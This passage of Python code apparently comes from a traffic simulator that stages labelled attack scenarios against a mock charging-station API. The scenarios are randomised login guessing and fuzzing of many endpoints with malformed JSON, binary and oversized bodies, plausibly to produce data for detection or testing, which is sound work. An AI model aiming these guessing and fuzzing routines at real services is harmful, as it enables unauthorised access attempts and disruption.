            S.call(cl, 'POST', '/login', form={'login': f'{r.choice(FIRST)}{r.randint(1, 9999)}', 'pass': f'{r.choice(WORDS)}{r.randint(1, 99)}'})
            yield r.uniform(60, 2000)
    for k in range(120):
        S.spawn(S.local(12, 1) + r.random() * 2 * DAY, v26(k))

    def v27():
        cl = evil(riders[110], 'V27', '192.0.2.77', 'python-requests/2.31.0')
        bad = [b'{', b'[]', b'null', b'{"station":{}}', b'\x00\xff', b'A' * 2000, b'{"amount":1e999}', b'<a/>', b'{"code":[1,2]}', b'-1']
        for _ in range(250):
            S.call(cl, r.choice(['POST', 'PUT', 'PATCH', 'DELETE']), r.choice(['/api/charges', '/api/preauth', '/api/wallet/topup', '/api/profile', '/login', '/register', '/fleet/v1/webhooks', '/api/none']), body=r.choice(bad), ct=r.choice(['application/json', 'text/plain']))
            yield r.uniform(.3, 1.2)
    go(5, 2, v27)

    real = S.call

    def call(cl, m, url, **k):
        if m == 'GET' and url.endswith('/position') and S.now > st + 11 * DAY + 2 * HOUR and not cl.ep:
            k['ep'] = 'V17'
        return real(cl, m, url, **k)
    S.call = call
